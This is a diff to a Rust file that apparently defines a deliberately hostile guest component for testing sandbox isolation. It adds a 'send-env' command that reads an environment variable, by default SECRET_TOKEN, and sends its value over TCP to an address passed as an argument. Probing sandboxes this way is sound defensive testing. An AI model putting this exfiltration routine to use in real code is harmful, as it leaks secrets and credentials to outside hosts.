@@ -85,6 +85,20 @@ impl Guest for Hostile {
                 "{:?}",
                 std::net::TcpStream::connect(arg.as_str()).map(|_| "connected")
             )),
+            // Exfiltration: arg "ADDR VAR" sends "VERSION VALUE" of the
+            // environment variable VAR to ADDR over TCP.
+            "send-env" => {
+                use std::io::Write;
+                let (addr, var) = arg
+                    .split_once(' ')
+                    .unwrap_or((arg.as_str(), "SECRET_TOKEN"));
+                let value = std::env::var(var).unwrap_or_default();
+                let sent = std::net::TcpStream::connect(addr).and_then(|mut s| {
+                    s.write_all(format!("{} {value}", crate::VERSION).as_bytes())
+                        .map(|()| value.len())
+                });
+                reward(format!("{sent:?}"))
+            }
             "read-env" => reward(format!(
                 "vars={} HOME={:?}",
                 std::env::vars().count(),
